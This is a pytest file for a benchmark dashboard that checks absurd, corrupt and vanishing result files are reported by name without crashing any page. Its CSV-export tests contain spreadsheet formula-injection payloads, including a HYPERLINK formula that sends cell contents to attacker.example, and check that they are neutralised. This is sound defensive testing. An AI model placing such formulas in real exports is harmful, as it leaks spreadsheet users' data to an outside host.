"""Faults in what the dashboard reads: absurd and corrupt result files, a file vanishing mid-scan, formula names.

Each test plants one fault in a copy of the shared results set (``results_set`` of ``tests/conftest.py``)
and asserts three things: nothing lost (every good value still loads), nothing crashed (every page renders),
one clear line naming the file, benchmark and commit. Step detection over an absurd value once took ~23 GB:
the tests that could run into that run in a subprocess under an address-space limit
(``resource.setrlimit(RLIMIT_AS)``) and a generous time limit, so a regression fails the test, not the machine.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
import math
import os
import resource
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pytest

pd = pytest.importorskip("pandas", reason="needs the dashboard extra")
pytest.importorskip("streamlit", reason="needs the dashboard extra")

import streamlit  # noqa: E402 - after the extra's guard
from streamlit.testing.v1 import AppTest  # noqa: E402

from bncvl.testing.results import CPU_MACHINE  # noqa: E402
from bncvl.testing.steps import PLANTED_AT, PLANTED_FLOPS, PLANTED_TIME  # noqa: E402
from bncvl.track.changes import find_changes, fit_steps  # noqa: E402
from bncvl.track.results import load_results  # noqa: E402
from dashboard import data as dashboard_data  # noqa: E402
from dashboard.export import csv_bytes  # noqa: E402

REPO = Path(__file__).resolve().parent.parent
APP = REPO / "dashboard" / "app.py"
PAGES = ("overview", "regressions", "trends", "devices", "memory_gpu", "quantization")
MEMORY_LIMIT = 3 * 2**30
"""Address space of a fault subprocess: the dashboard on this results set peaks at 0.9 GB; the bug took 23."""
TIME_LIMIT = 300
"""Seconds a fault subprocess may take: it needs about 10 on a busy 2-core machine."""
CORRUPT_AT = 2
"""The commit whose result file is corrupted: inside the planted series, away from its step at PLANTED_AT."""
KEYS = ["machine", "commit_hash", "benchmark", "params"]


# --- planting faults ------------------------------------------------------------------------------------


def copy_results(results_set: tuple[Path, list[str]], tmp_path: Path) -> Path:
    root = tmp_path / "results"
    shutil.copytree(results_set[0], root)
    return root


def result_file(root: Path, commit: str, machine: str = CPU_MACHINE) -> Path:
    (path,) = (root / machine).glob(f"{commit[:8]}-*.json")
    return path


def edit(path: Path, change: Callable[[dict], None]) -> None:
    """Rewrite one asv JSON file with ``change`` applied (Python's json writes NaN and Infinity as asv does)."""
    document = json.loads(path.read_text())
    change(document)
    path.write_text(json.dumps(document))


def position(document: dict, benchmark: str, params: dict[str, str]) -> int:
    """Index of the parameter combination ``params`` in the row of ``benchmark`` (asv's product order)."""
    row = document["results"][benchmark]
    grid = row[document["result_columns"].index("params")]
    wanted = [params[name] for name in ("variant", "preset", "device", "dtype")]
    for index, combo in enumerate(itertools.product(*grid)):
        if [value.strip("'") for value in combo] == wanted:
            return index
    raise AssertionError(f"{params} not in {grid}")


def set_entry(benchmark: str, column: str, entry: object, params: dict[str, str] | None = None):
    """A ``change`` for :func:`edit`: entry ``params`` (default: the planted series') of a column in a row."""
    params = params or {**PLANTED_TIME.params, "dtype": "float32"}

    def change(document: dict) -> None:
        row = document["results"][benchmark]
        row[document["result_columns"].index(column)][position(document, benchmark, params)] = entry

    return change


def planted_point(points: pd.DataFrame, commit: str) -> pd.Series:
    """The point of the planted time series (fused, medium, CPU) at ``commit``."""
    rows = points[
        (points["machine"] == CPU_MACHINE)
        & (points["benchmark"] == PLANTED_TIME.benchmark)
        & (points["commit_hash"] == commit)
        & (points["variant"] == "fused")
        & (points["preset"] == "medium")
        & (points["device"] == "cpu")
    ]
    (index,) = rows.index
    return rows.loc[index]


def assert_nothing_else_lost(clean: pd.DataFrame, loaded: pd.DataFrame, except_rows: pd.Series) -> None:
    """Every point of ``clean`` outside ``except_rows`` (a mask over ``clean``) loads with its status and value."""
    expected = clean[~except_rows.to_numpy()]
    expected = expected.assign(**{key: expected[key].astype(str) for key in KEYS}).set_index(KEYS).sort_index()
    got = loaded.assign(**{key: loaded[key].astype(str) for key in KEYS}).set_index(KEYS)
    got = got.loc[expected.index]
    assert list(got["status"].astype(str)) == list(expected["status"].astype(str))
    pd.testing.assert_series_equal(got["value"], expected["value"])


def warnings_naming(warnings: tuple[str, ...], path: Path) -> list[str]:
    return [line for line in warnings if str(path) in line]


# --- rendering every page ------------------------------------------------------------------------------


def render_every_page(results_dir: Path, runs_dir: Path) -> dict[str, dict]:
    """Run the dashboard from its entry point and open each page; per page what it showed.

    Call with the working directory and ``BNCVL_*`` variables set (see :func:`pages_report`).
    """
    app = AppTest.from_file(str(APP), default_timeout=120)
    app.run()
    shown: dict[str, dict] = {}
    for page in PAGES:
        app.switch_page(f"views/{page}.py").run()
        shown[page] = {
            "exceptions": [str(error.value) for error in app.exception],
            "errors": [element.value for element in app.error],
            "successes": [element.value for element in app.success],
            "warnings": [element.value for element in app.warning],
            "tables": [element.value.to_json(orient="records", date_format="iso") for element in app.dataframe],
            "charts": len(app.get("plotly_chart")),
        }
    return shown


def publish_for_dashboard(results_dir: Path, workdir: Path) -> Path:
    """Publish ``results_dir`` into a store in ``workdir``, as ``bncvl dashboard`` does before it serves: the pages
    read the store, and what the publish skipped or warned about is kept there for them to show."""
    from tests.store_cases import publish_into

    store = workdir / "dashboard-store.sqlite"
    store.unlink(missing_ok=True)
    return publish_into(store, results_dir)


def pages_report(results_dir: str, runs_dir: str, workdir: str) -> None:
    """Entry point of the page subprocess: :func:`render_every_page` as JSON on stdout's last line."""
    os.chdir(workdir)
    os.environ["BNCVL_STORE"] = str(publish_for_dashboard(Path(results_dir), Path(workdir)))
    os.environ["BNCVL_RUNS_DIR"] = runs_dir
    print(json.dumps(render_every_page(Path(results_dir), Path(runs_dir))))


def assert_every_page_renders(shown: dict[str, dict], with_content: bool = True) -> None:
    for page in PAGES:
        assert shown[page]["exceptions"] == [], (page, shown[page]["exceptions"])
        if with_content:
            assert shown[page]["tables"] or shown[page]["charts"], f"{page} shows neither a table nor a chart"


@pytest.fixture
def in_dashboard(runs_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[[Path], dict]:
    """Render every page in this process on a results directory published into a store (for faults that cannot
    exhaust memory)."""

    def render(results_dir: Path) -> dict[str, dict]:
        monkeypatch.chdir(tmp_path)
        monkeypatch.setenv("BNCVL_STORE", str(publish_for_dashboard(results_dir, tmp_path)))
        monkeypatch.setenv("BNCVL_RUNS_DIR", str(runs_dir))
        return render_every_page(results_dir, runs_dir)

    return render


def run_limited(entry: str, *args: str) -> object:
    """Call ``tests.test_faults_data.<entry>(*args)`` in a subprocess limited to MEMORY_LIMIT and TIME_LIMIT.

    Returns what it printed as JSON on its last line; fails the test (naming MemoryError, the signal or the
    timeout) if it did not finish.
    """

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))

    code = f"import sys; from tests.test_faults_data import {entry}; {entry}(*sys.argv[1:])"
    try:
        done = subprocess.run(
            [sys.executable, "-c", code, *args],
            cwd=REPO,
            capture_output=True,
            text=True,
            timeout=TIME_LIMIT,
            preexec_fn=limit,
            env={**os.environ, "PYTHONPATH": str(REPO)},
        )
    except subprocess.TimeoutExpired:
        pytest.fail(f"{entry} ran past {TIME_LIMIT} s")
    if done.returncode != 0:
        pytest.fail(f"{entry} exited {done.returncode} under a {MEMORY_LIMIT >> 30} GiB limit:\n{done.stderr[-3000:]}")
    return json.loads(done.stdout.strip().splitlines()[-1])


# --- 1. non-finite and absurd values -------------------------------------------------------------------

ABSURD = {
    "Infinity": (math.inf, "not finite"),
    "-Infinity": (-math.inf, "not finite"),
    "1e308": (1e308, "beyond ±1e+100"),
    "1e300": (1e300, "beyond ±1e+100"),
    "1e-320": (1e-320, "nonzero within ±1e-100 of zero"),
    "negative time": (-0.0012, "negative"),
}


@pytest.mark.parametrize("kind", list(ABSURD))
def test_absurd_value_is_invalid_named_once_and_the_rest_loads(
    kind: str, results_set: tuple[Path, list[str]], tmp_path: Path
) -> None:
    value, reason = ABSURD[kind]
    hashes = results_set[1]
    root = copy_results(results_set, tmp_path)
    path = result_file(root, hashes[CORRUPT_AT])
    edit(path, set_entry(PLANTED_TIME.benchmark, "result", value))

    results = load_results(root)

    point = planted_point(results.points, hashes[CORRUPT_AT])
    assert point["status"] == "invalid" and math.isnan(point["value"])
    assert math.isnan(point["weight"]) and math.isnan(point["q_25"]), "nothing of an invalid point is drawn"
    (line,) = results.warnings
    assert str(path) in line and repr(PLANTED_TIME.benchmark) in line and hashes[CORRUPT_AT][:8] in line
    assert "variant=fused, preset=medium, device=cpu" in line and reason in line, line
    clean = load_results(results_set[0]).points
    corrupted = (clean["commit_hash"] == hashes[CORRUPT_AT]) & (clean["benchmark"] == PLANTED_TIME.benchmark)
    corrupted &= (clean["machine"] == CPU_MACHINE) & (clean["variant"] == "fused") & (clean["preset"] == "medium")
    corrupted &= clean["device"] == "cpu"
    assert corrupted.sum() == 1
    assert_nothing_else_lost(clean, results.points, corrupted)
    assert (results.points["status"] == "invalid").sum() == 1


def test_absurd_samples_and_quartiles_make_their_point_invalid(
    results_set: tuple[Path, list[str]], tmp_path: Path
) -> None:
    hashes = results_set[1]
    root = copy_results(results_set, tmp_path)
    relative = "bench_relative.RelativeCpuTime.track_eval_forward"
    samples_file = result_file(root, hashes[CORRUPT_AT])
    quartile_file = result_file(root, hashes[CORRUPT_AT + 1])
    processes = [2.0, 2.0, math.inf, 2.0, 2.0, 2.0, 2.0]
    edit(samples_file, set_entry(relative, "samples", processes))
    edit(quartile_file, set_entry(PLANTED_TIME.benchmark, "stats_q_75", 1e308))

    results = load_results(root)

    assert planted_point(results.points, hashes[CORRUPT_AT + 1])["status"] == "invalid"
    assert (results.points["status"] == "invalid").sum() == 2
    (samples_line,) = warnings_naming(results.warnings, samples_file)
    assert repr(relative) in samples_line and "samples" in samples_line and "not finite" in samples_line
    (quartile_line,) = warnings_naming(results.warnings, quartile_file)
    assert "stats_q_75" in quartile_line and "beyond ±1e+100" in quartile_line
    find_changes(results.points)  # the invalid samples never reach the per-process test


STEP_SERIES = [1.0, 1.0, 1.0, 1.0, 2.0, 2.0, 2.0, 2.0]


def step_detection_battery() -> None:
    """Entry point of the step-detection subprocess: adversarial series, one outcome each, as JSON.

    Out-of-domain values must be refused at once (ValueError); in-domain extremes of value and weight must
    give the fit of the plain series; ordinary weights must give asv's own fit.
    """
    outcomes: dict[str, object] = {}
    for name, value in (("inf", math.inf), ("-inf", -math.inf), ("1e308", 1e308), ("1e-320", 1e-320)):
        try:
            fit_steps([*STEP_SERIES[:2], value, *STEP_SERIES[3:]])
            outcomes[name] = "accepted"
        except ValueError as error:
            outcomes[name] = f"refused: {error}"
    for name, values in (("1e100", [v * 5e99 for v in STEP_SERIES]), ("1e-100", [v * 1e-100 for v in STEP_SERIES])):
        outcomes[name] = [(step.start, step.stop) for step in fit_steps(values)]
    weights = [1e300, 1e-300, 5e-324, None, 1.7e308, 1.0, math.nan, 1e-10]
    for name, values in (("1e100 weighted", [v * 5e99 for v in STEP_SERIES]), ("1 weighted", STEP_SERIES)):
        outcomes[name] = [(step.start, step.stop) for step in fit_steps(values, weights)]
    long_series = [1.0 + (index // 500) % 2 + 1e-3 * (index % 7) for index in range(5000)]
    long_weights = [1e300 if index % 3 else 1e-300 for index in range(5000)]
    outcomes["long"] = len(fit_steps(long_series, long_weights))
    outcomes["asv"] = [(step.start, step.stop, step.value) for step in fit_steps(STEP_SERIES, [1.0, 2.0] * 4)]
    print(json.dumps(outcomes))


def test_step_detection_cost_is_bounded_whatever_the_values() -> None:
    from asv import step_detect

    outcomes = run_limited("step_detection_battery")

    assert isinstance(outcomes, dict)
    for name in ("inf", "-inf", "1e308", "1e-320"):
        assert str(outcomes[name]).startswith("refused: "), (name, outcomes[name])
        assert "load_results marks such values invalid" in str(outcomes[name])
    for name in ("1e100", "1e-100", "1e100 weighted", "1 weighted"):
        assert outcomes[name] == [[0, 4], [4, 8]], (name, outcomes[name])
    assert outcomes["long"] == 10
    expected = step_detect.detect_steps(STEP_SERIES, [1.0, 2.0] * 4)
    assert outcomes["asv"] == [[start, stop, value] for start, stop, value, _min, _err in expected]


def extreme_history(results_dir: str) -> None:
    """Entry point: step detection over a results set whose planted series hold in-domain extremes."""
    points = load_results(results_dir).points
    for step, scale in ((PLANTED_TIME, 1e96), (PLANTED_FLOPS, 1e-96)):
        rows = points["benchmark"] == step.benchmark
        points.loc[rows, "value"] *= scale
        points.loc[rows, "weight"] = [1e300 if index % 2 else 1e-300 for index in range(int(rows.sum()))]
    changes = find_changes(points)
    regressions = changes[changes["kind"] == "regression"]
    print(json.dumps(sorted(set(regressions["benchmark"].astype(str)))))


def test_extreme_but_valid_series_keep_their_steps(results_set: tuple[Path, list[str]]) -> None:
    found = run_limited("extreme_history", str(results_set[0]))
    assert isinstance(found, list)
    assert PLANTED_TIME.benchmark in found and PLANTED_FLOPS.benchmark in found


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["Infinity", "1e308", "negative time"])
def test_absurd_value_every_page_renders_and_counts_it(
    kind: str, results_set: tuple[Path, list[str]], runs_dir: Path, tmp_path: Path
) -> None:
    hashes = results_set[1]
    root = copy_results(results_set, tmp_path)
    path = result_file(root, hashes[CORRUPT_AT])
    edit(path, set_entry(PLANTED_TIME.benchmark, "result", ABSURD[kind][0]))

    shown = run_limited("pages_report", str(root), str(runs_dir), str(tmp_path))

    assert isinstance(shown, dict)
    assert_every_page_renders(shown)
    overview = shown["overview"]
    (health,) = overview["errors"]
    assert health.endswith("16 failed, 1 invalid. Each is listed below with its result file.")
    (warning,) = overview["warnings"]
    assert str(path) in warning and hashes[CORRUPT_AT][:8] in warning
    latest = json.loads(overview["tables"][2])
    planted = [row for row in latest if row["benchmark"] == PLANTED_TIME.benchmark]
    assert [row["commits"] for row in planted] == [f"{hashes[PLANTED_AT - 1][:8]}..{hashes[PLANTED_AT][:8]}"]


# --- 5. corrupt files ----------------------------------------------------------------------------------

BAD_VALUES = {
    "numeric string": "0.0012",
    "word": "fast",
    "nested list": [[0.0012]],
    "boolean": True,
    "object": {"value": 0.0012},
}


@pytest.mark.parametrize("kind", list(BAD_VALUES))
def test_value_of_the_wrong_type_is_invalid_named_and_every_page_renders(
    kind: str, results_set: tuple[Path, list[str]], tmp_path: Path, in_dashboard: Callable[[Path], dict]
) -> None:
    hashes = results_set[1]
    root = copy_results(results_set, tmp_path)
    path = result_file(root, hashes[CORRUPT_AT])
    edit(path, set_entry(PLANTED_TIME.benchmark, "result", BAD_VALUES[kind]))

    results = load_results(root)

    point = planted_point(results.points, hashes[CORRUPT_AT])
    assert point["status"] == "invalid" and math.isnan(point["value"])
    (line,) = results.warnings
    assert str(path) in line and repr(PLANTED_TIME.benchmark) in line and hashes[CORRUPT_AT][:8] in line
    assert "is not a number" in line and repr(BAD_VALUES[kind]) in line, line
    assert (results.points["status"] == "invalid").sum() == 1
    assert (results.points["status"] == "ok").sum() == (load_results(results_set[0]).points["status"] == "ok").sum() - 1
    shown = in_dashboard(root)
    assert_every_page_renders(shown)
    assert shown["overview"]["errors"][0].endswith("1 invalid. Each is listed below with its result file.")


def samples_of_strings(document: dict) -> None:
    set_entry("bench_relative.RelativeCpuTime.track_eval_forward", "samples", ["2.0"] * 7)(document)


def params_of_numbers(document: dict) -> None:
    row = document["results"][PLANTED_TIME.benchmark]
    row[document["result_columns"].index("params")][1] = [1, 2]


def result_of_a_string(document: dict) -> None:
    row = document["results"][PLANTED_TIME.benchmark]
    row[document["result_columns"].index("result")] = "0.0012"


CORRUPT_FILES: dict[str, tuple[Callable[[dict], None], str]] = {
    "string date": (lambda document: document.update(date="2026-01-03"), "date"),
    "float date": (lambda document: document.update(date=1.7673984e12), "date"),
    "null date": (lambda document: document.update(date=None), "date"),
    "date beyond year 2262": (lambda document: document.update(date=10**17), "date"),
    "numeric commit hash": (lambda document: document.update(commit_hash=12345678), "commit_hash"),
    "numbers as parameter values": (params_of_numbers, "params"),
    "a string as the result row": (result_of_a_string, "result"),
    "strings as samples": (samples_of_strings, "samples"),
}


@pytest.mark.parametrize("kind", list(CORRUPT_FILES))
def test_corrupt_file_is_named_the_rest_loads_and_every_page_renders(
    kind: str, results_set: tuple[Path, list[str]], tmp_path: Path, in_dashboard: Callable[[Path], dict]
) -> None:
    change, field = CORRUPT_FILES[kind]
    hashes = results_set[1]
    root = copy_results(results_set, tmp_path)
    path = result_file(root, hashes[CORRUPT_AT])
    edit(path, change)

    results = load_results(root)

    (line,) = results.warnings
    assert str(path) in line and field in line, line
    clean = load_results(results_set[0]).points
    if kind == "strings as samples":  # one point of the file is invalid, the rest of it loads
        relative = clean["benchmark"] == "bench_relative.RelativeCpuTime.track_eval_forward"
        lost = relative & (clean["commit_hash"] == hashes[CORRUPT_AT]) & (clean["machine"] == CPU_MACHINE)
        lost &= (clean["variant"] == "fused") & (clean["preset"] == "medium") & (clean["device"] == "cpu")
        assert "is not a number" in line and hashes[CORRUPT_AT][:8] in line
    else:  # the file is skipped whole
        lost = (clean["commit_hash"] == hashes[CORRUPT_AT]) & (clean["machine"] == CPU_MACHINE)
        assert "skipped" in line
    assert_nothing_else_lost(clean, results.points, lost)
    assert_every_page_renders(in_dashboard(root))


def test_missing_benchmarks_json_every_page_renders(
    results_set: tuple[Path, list[str]], tmp_path: Path, in_dashboard: Callable[[Path], dict]
) -> None:
    root = copy_results(results_set, tmp_path)
    (root / "benchmarks.json").unlink()

    results = load_results(root)

    (line,) = results.warnings
    assert str(root / "benchmarks.json") in line and "missing" in line
    clean = load_results(results_set[0]).points
    # without benchmarks.json parameters have asv's names (param1...), so compare each file's rows in file order
    clean, loaded = (
        frame.sort_values(["machine", "commit_hash", "benchmark"], kind="stable") for frame in (clean, results.points)
    )
    assert list(loaded["status"].astype(str)) == list(clean["status"].astype(str))
    np.testing.assert_array_equal(loaded["value"].to_numpy(), clean["value"].to_numpy())
    shown = in_dashboard(root)
    assert_every_page_renders(shown, with_content=False)
    assert any("benchmarks.json" in warning for warning in shown["memory_gpu"]["warnings"])


# --- 7. spreadsheet formulas in the CSV; a file vanishing mid-scan ----------------------------------------

FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"details")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"]


def test_csv_cells_that_start_a_formula_are_neutralised() -> None:
    table = pd.DataFrame(
        {
            "benchmark": [*FORMULAS, "bench_latency.Latency.time_eval_forward"],
            "kind": pd.Categorical(["=1+1", *["regression"] * len(FORMULAS)]),
            "factor": [-1.5, *[1.25] * len(FORMULAS)],
        }
    )

    rows = list(csv.reader(io.StringIO(csv_bytes(table).decode(), newline="")))

    assert rows[0] == ["benchmark", "kind", "factor"]
    assert [row[0] for row in rows[1:]] == [
        *("'" + cell for cell in FORMULAS),
        "bench_latency.Latency.time_eval_forward",
    ]
    assert rows[1][1] == "'=1+1" and rows[2][1] == "regression", "categorical columns too"
    assert rows[1][2] == "-1.5", "numbers stay numbers"


def test_regressions_csv_download_is_neutralised(
    results_set: tuple[Path, list[str]], tmp_path: Path, runs_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = copy_results(results_set, tmp_path)
    evil = '=HYPERLINK("http://attacker.example","x")'
    for path in root.glob("**/*.json"):
        path.write_text(path.read_text().replace(PLANTED_TIME.benchmark, json.dumps(evil)[1:-1]))
    downloads: list[bytes] = []
    original = streamlit.download_button

    def recording(label: str, data: bytes, *args: object, **kwargs: object) -> bool:
        downloads.append(data)
        return original(label, data, *args, **kwargs)

    monkeypatch.setattr(streamlit, "download_button", recording)
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("BNCVL_STORE", str(publish_for_dashboard(root, tmp_path)))
    monkeypatch.setenv("BNCVL_RUNS_DIR", str(runs_dir))
    app = AppTest.from_file(str(APP), default_timeout=120)
    app.run()
    app.switch_page("views/regressions.py").run()
    kinds = app.multiselect(key="regressions_kind")
    kinds.set_value(["regression", "improvement", "within noise", "unconfirmed", "change"]).run()

    assert not app.exception, [error.value for error in app.exception]
    rows = list(csv.DictReader(io.StringIO(downloads[-1].decode(), newline="")))
    names = {row["benchmark"] for row in rows}
    assert "'" + evil in names and evil not in names


def test_fingerprint_tolerates_a_file_vanishing_mid_scan(
    results_set: tuple[Path, list[str]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = copy_results(results_set, tmp_path)
    before = dashboard_data.fingerprint([root])
    vanishing = str(result_file(root, results_set[1][CORRUPT_AT]))
    stat = os.stat

    def renamed_by_asv_after_listing(path: str | os.PathLike[str], *args: object, **kwargs: object) -> os.stat_result:
        if os.fspath(path) == vanishing:
            os.rename(vanishing, vanishing + ".tmp")  # as asv replaces a file: gone between listing and stat
        return stat(path, *args, **kwargs)

    monkeypatch.setattr(os, "stat", renamed_by_asv_after_listing)
    during = dashboard_data.fingerprint([root])
    monkeypatch.setattr(os, "stat", stat)

    assert [entry[0] for entry in during] == [entry[0] for entry in before if entry[0] != vanishing]
    assert dashboard_data.fingerprint([root]) != before, "the next scan sees the change"
